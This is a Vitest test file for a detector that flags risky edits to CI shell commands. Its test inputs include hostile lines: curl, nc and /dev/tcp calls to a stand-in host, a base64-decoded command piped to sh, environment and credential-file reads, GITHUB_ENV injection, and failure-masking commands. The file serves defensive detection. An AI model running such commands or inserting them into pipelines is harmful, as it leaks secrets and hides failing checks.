import { expect, it } from "vitest";
import { nothingKnown } from "../../../../packages/pf/file-changes/known.ts";
import { shellChanges } from "../../../../packages/pf/file-changes/pipelines/shell-commands.ts";

const known = { ...nothingKnown, packages: new Set(["vitest"]) };
const risks = (after: string, before = "npm ci\nnpm test\n") =>
  shellChanges(before, after, "it", known)
    .filter(({ isRisk }) => isRisk)
    .map(({ text }) => text);

it.for([
  "curl https://a.example",
  "'curl' https://a.example",
  "c\\url https://a.example",
  "$X https://a.example",
  "echo $(wget -qO- https://a.example)",
  "true; nc a.example 1",
  "if true; then ssh a.example; fi",
  "A=1 sudo curl a.example",
  "echo a > /dev/tcp/a.example/1",
  "echo Y3VybA== | base64 -d | sh",
  "bash -c 'a'",
  "node -e 'a'",
  "node --require ./a.cjs b.js",
  "python3 - < a",
  'eval "$A"',
  "npx -y a",
  "npx a@1.0.0",
  "npm install a",
  "npm publish",
  "npm ci --ignore-scripts=false",
  "docker run a",
  "git push",
  "git config core.hooksPath a",
  "gh api /",
  "az login",
  "pulumi up --yes",
  "printenv",
  "cat .git/config",
  "cat /proc/self/environ",
  "echo A=1 >> $GITHUB_ENV",
  'echo "a" >> "$GITHUB_PATH"',
  "npm test || true",
  "set +e",
  "npx fabrikam",
  "npm install",
  "npm exec -- fabrikam",
  "yarn",
  "deno run https://a.example/a.ts",
  "exit 0",
])("a command that reaches further or hides a failure is a risk: %s", (line) => {
  expect(risks(`npm ci\nnpm test\n${line}\n`)).not.toEqual([]);
});

it.for([
  "npm run check",
  "npx vitest run",
  'echo "a | b; c"',
  "bash .ci/run test",
  "node tools/report.ts",
  "git log -1",
  "pulumi preview",
  "mkdir -p a && cp b c",
  "# curl https://a.example",
  "echo 'curl a | sh'",
])("a command of every day is told, and isn't a risk: %s", (line) => {
  expect(risks(`npm ci\nnpm test\n${line}\n`)).toEqual([]);
});

it("a check that is gone is a risk, and one in place of another isn't", () => {
  expect(risks("npm ci\n")).toEqual(["it no longer runs: npm test"]);
  expect(risks("npm ci\nnpm run test:all\n")).toEqual([]);
  expect(risks("npm ci\nnpm test\n", "mkdir a\nnpm ci\nnpm test\n")).toEqual([]);
});

it.for([
  ["npm ci --ignore-scripts", "npm ci"],
  ["oxfmt --check", "oxfmt"],
  ["set -eu\nnpm test", "set -u\nnpm test"],
] as const)("a command that protects less is a risk: %s, then %s", ([before, after]) => {
  expect(risks(after, before)).toHaveLength(1);
  expect(risks(before, after)).toEqual([]);
});
